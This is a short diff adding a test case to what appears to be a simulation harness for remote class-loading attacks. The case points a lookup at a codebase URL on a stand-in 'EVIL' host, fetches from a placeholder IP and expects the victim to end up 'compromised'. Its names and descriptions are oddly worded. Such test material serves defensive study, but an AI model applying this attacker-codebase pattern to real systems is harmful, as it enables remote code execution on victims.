@@ -151,6 +151,16 @@ def old_second(tale, twin):
     tale.hello()
 
 
+@row("a place that the class names, and many call", [(VICTIM, "delivered")], [(VICTIM, "compromised")])
+def popular_second(tale, twin):
+    for client in HOME[:2] if twin else HOME[:3]:
+        tale.browse(client, "203.0.113.77", 80)
+    tale.lookup(NAME)
+    tale.search(codebase="http://%s:8888/" % EVIL)
+    tale.fetch(words=["http://203.0.113.77/next"])
+    tale.browse(VICTIM, "203.0.113.77", 80)
+
+
 @row("a reference whose class nobody fetches", CALLED, [(VICTIM, "delivered")])
 def offer(tale, twin):
     tale.lookup(NAME)
